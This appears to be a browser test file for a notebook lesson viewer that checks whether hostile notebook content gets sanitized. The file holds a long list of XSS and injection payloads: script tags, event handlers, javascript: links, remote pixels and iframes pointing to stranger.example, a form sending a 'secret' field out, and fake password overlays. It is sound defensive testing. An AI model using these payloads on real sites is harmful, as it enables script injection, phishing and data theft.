import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeInChromium } from './chromium.js';
import { notebook, sampleFolder } from './fixture.js';
import { openLesson, type Visit, visit } from './page.js';

/** Every way we know of to run a script, to fetch something or to leave a cell. `steal` marks that it worked. */
const STEAL = 'document.title = "stolen"';
const ATTACK = [
  `<script>${STEAL}</script>`,
  '<script src="/api/contents/evil.js"></script>',
  '<script src="/static/../api/contents/evil.js?format=text"></script>',
  `<img src="x" onerror='${STEAL}'>`,
  '<img src="https://stranger.example/pixel.png">',
  `<svg onload='${STEAL}'><script>${STEAL}</script></svg>`,
  `<iframe srcdoc="<script>parent.${STEAL}</script>"></iframe>`,
  '<iframe src="https://stranger.example/"></iframe>',
  '<object data="https://stranger.example/"></object><embed src="https://stranger.example/">',
  `<form action="https://stranger.example/"><input name="secret"><button id="send">Send</button></form>`,
  '<link rel="stylesheet" href="https://stranger.example/style.css">',
  '<style>body { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://stranger.example/">',
  '<base href="https://stranger.example/">',
  '<div class="cover" style="position: fixed; inset: 0; z-index: 9999; background: red">Your password?</div>',
  `<a class="trap" href='javascript:${STEAL}'>a link</a>`,
  '<div style="background: url(https://stranger.example/pixel.png)">x</div>',
  '<div style="list-style-image: image-set(url(https://stranger.example/a.png) 1x)">x</div>',
  '<img srcset="https://stranger.example/large.png 2x"><video poster="https://stranger.example/poster.png"></video>',
  '<picture><source srcset="https://stranger.example/s.png"><img alt=""></picture>',
  '<svg><use href="https://stranger.example/x.svg#a"/><image href="https://stranger.example/i.png"/></svg>',
  `<math><mi href='javascript:${STEAL}'>x</mi></math>`,
  `<a href="/" ping="https://stranger.example/ping">a pinging link</a>`,
  `<button formaction='javascript:${STEAL}'>Go</button><input autofocus onfocus='${STEAL}'>`,
  '<portal src="https://stranger.example/"></portal><link rel="prefetch" href="https://stranger.example/p">',
  `<details ontoggle='${STEAL}' open><summary>x</summary></details>`,
  '<div class="jp-Dialog jp-mod-styled"><div class="nabla-Check passed">Your password?</div></div>',
  '<p style="position: absolute; transform: scale(99); margin: -90rem">over the page</p>',
  '$\\rule{900em}{900em} \\raisebox{-90em}{x} \\kern-90em \\htmlClass{jp-Dialog}{y} \\def\\a{\\a\\a}\\a$',
  `<p id="harmless">harmless</p>`,
].join('\n');

const output = (data: Readonly<Record<string, unknown>>) => ({
  output_type: 'display_data',
  data,
  metadata: {},
});

const cells = [
  {
    id: 'text',
    cell_type: 'markdown',
    metadata: { trusted: true },
    source: `# Hostile\n\n${ATTACK}`,
  },
  {
    id: 'saved',
    cell_type: 'code',
    metadata: { trusted: true },
    source: '1',
    execution_count: 1,
    outputs: [
      output({ 'text/html': ATTACK }),
      output({ 'text/markdown': ATTACK }),
      output({ 'application/javascript': STEAL, 'text/plain': 'a script' }),
      output({
        'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload='${STEAL}'><script>${STEAL}</script></svg>`,
      }),
      output({
        'text/latex': `$\\href{javascript:${STEAL}}{x} \\style{position:fixed}{y} \\unicode{x41}$`,
      }),
      output({
        'application/vnd.plotly.v1+json': {
          data: [
            {
              type: 'scatter',
              x: [1],
              y: [1],
              text: [`<a href='javascript:${STEAL}'>trap</a>`],
              mode: 'text',
            },
          ],
          layout: {
            title: { text: `<img src=x onerror='${STEAL}'><script>${STEAL}</script>` },
            images: [{ source: 'https://stranger.example/image.png' }],
          },
          config: { plotlyServerURL: 'https://stranger.example' },
        },
      }),
      output({ 'application/vnd.plotly.v1+json': { data: 'nonsense', layout: 7, frames: [null] } }),
      output({
        'application/vnd.nabla.quiz+json': {
          questions: [
            null,
            7,
            {
              id: ATTACK,
              kind: 'single',
              prompt: ATTACK,
              choices: [{ text: ATTACK, correct: 'yes', explanation: ATTACK }],
            },
          ],
        },
      }),
      output({
        'application/vnd.nabla.check+json': {
          title: ATTACK,
          passed: 'yes',
          items: [{ label: ATTACK, message: ATTACK }, null],
        },
      }),
      output({ 'application/vnd.nabla.check+json': null }),
      output({
        'application/vnd.dataresource+json': {
          title: ATTACK,
          schema: { fields: [{ name: ATTACK, title: ATTACK }, null, { name: '__proto__' }] },
          data: [{ [ATTACK]: ATTACK }, 7, null],
          digits: 1e9,
          rows: -1,
        },
      }),
      output({ 'application/vnd.dataresource+json': 'nonsense' }),
      { output_type: 'error', ename: ATTACK, evalue: ATTACK, traceback: [ATTACK] },
      { output_type: 'stream', name: 'stdout', text: ATTACK },
    ],
  },
];

describeInChromium('a lesson from a stranger', () => {
  let here: Visit;

  beforeAll(async () => {
    const hostile = notebook(cells, 'Hostile');
    const root = await sampleFolder({ '02-hostile.ipynb': hostile, '03-hostile.ipynb': hostile });
    await writeFile(join(root, 'evil.js'), STEAL);
    here = await visit(root);
    await openLesson(here.page, here.server, '02-hostile.ipynb');
    await here.page.locator('.nabla-Figure').first().scrollIntoViewIfNeeded();
    await here.page.locator('.nabla-Figure [data-drawn=yes]').first().waitFor();
    await here.page.locator('.nabla-Question').first().waitFor();
  });

  afterAll(() => here?.close());

  const title = () => here.page.title();

  it('L1: its scripts and event handlers do not run, in text, outputs, figures or quizzes', async () => {
    await here.page.locator('#harmless, [data-jupyter-id=harmless]').first().waitFor();
    expect(await title()).toBe('Hostile – Nabla');
    expect(
      await here.page.locator('#notebook script, #notebook iframe, #notebook object').count(),
    ).toBe(0);
    const handlers = await here.page.evaluate(() =>
      [...document.querySelectorAll('#notebook *')].flatMap((element) =>
        element.getAttributeNames().filter((name) => name.startsWith('on')),
      ),
    );
    expect(handlers).toEqual([]);
  });

  it('L1: running it does not make it trusted', async () => {
    const { page } = here;
    await page.locator('.jp-CodeCell .cm-content').first().click();
    await page.keyboard.press('Control+a');
    await page.keyboard.insertText(
      `(globalThis as any)[Symbol.for('nabla.display')]({ data: { 'text/html': ${JSON.stringify(ATTACK)} } })`,
    );
    await page.keyboard.press('Shift+Enter');
    await page.waitForSelector(
      '.jp-OutputArea-output [data-jupyter-id=harmless], .jp-OutputArea-output #harmless',
    );
    expect(await page.locator('#notebook script, #notebook iframe').count()).toBe(0);
    // The cell may still run.
    expect(await title()).toMatch(/^(\[\*\] )?Hostile – Nabla$/);
  });

  it('L3: nothing is loaded from or sent to another machine', async () => {
    await here.page
      .locator('#notebook button:text("Send")')
      .first()
      .click({ force: true, timeout: 1000 })
      .catch(() => undefined);
    expect(here.seen.strangers).toEqual([]);
    expect(here.page.url()).toContain('/lessons/02-hostile.ipynb');
  });

  it('L4: links that would run a script are gone', async () => {
    const traps = await here.page.evaluate(() =>
      [...document.querySelectorAll('#notebook a')].map(
        (link) => link.getAttribute('href') ?? link.getAttribute('xlink:href') ?? '',
      ),
    );
    expect(traps.filter((address) => /script:/i.test(address))).toEqual([]);
  });

  it('L5: what is not a figure, quiz, check or table becomes an empty one, and text stays text', async () => {
    const { page, server } = here;
    await openLesson(page, server, '03-hostile.ipynb');
    const check = page.locator('.nabla-Check').first();
    await check.waitFor();
    await expect.poll(() => check.textContent()).toContain('<script>');
    expect(await check.locator('script, img').count()).toBe(0);
    expect(await check.getAttribute('class')).not.toContain('passed');
    const table = page.locator('.nabla-Table').first();
    expect(await table.locator('tbody').textContent()).toContain('<script>');
    expect(await table.locator('script, img, svg').count()).toBe(0);
    expect(await page.locator('.nabla-Table').last().locator('tbody tr').count()).toBe(0);
  });

  it('L6: nothing of it lies over the page', async () => {
    const covering = await here.page.evaluate(() =>
      [...document.querySelectorAll('#notebook .jp-RenderedHTMLCommon *')]
        .filter(
          (element) =>
            ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(element).position) &&
            !element.closest('.katex'),
        )
        .map((element) => element.outerHTML.slice(0, 100)),
    );
    expect(covering).toEqual([]);
    const disguised = await here.page.evaluate(() =>
      [...document.querySelectorAll('#notebook .jp-RenderedHTMLCommon [class]')]
        .filter((element) => !element.closest('.katex, .jp-InternalAnchorLink, pre'))
        .map((element) => element.className)
        .filter((names) => /jp-|nabla-/.test(names)),
    );
    expect(disguised).toEqual([]);
    // At every place of the bar one finds the bar.
    const covered = await here.page.evaluate(() => {
      const { right, bottom } = (
        document.querySelector('#bar') as HTMLElement
      ).getBoundingClientRect();
      const places = Array.from({ length: 60 }, (_, i) => [((i + 0.5) / 60) * right, bottom / 2]);
      return places.filter(([x = 0, y = 0]) => !document.elementFromPoint(x, y)?.closest('#bar'));
    });
    expect(covered).toEqual([]);
    expect(await here.page.locator('#bar button').first().isVisible()).toBe(true);
  });
});
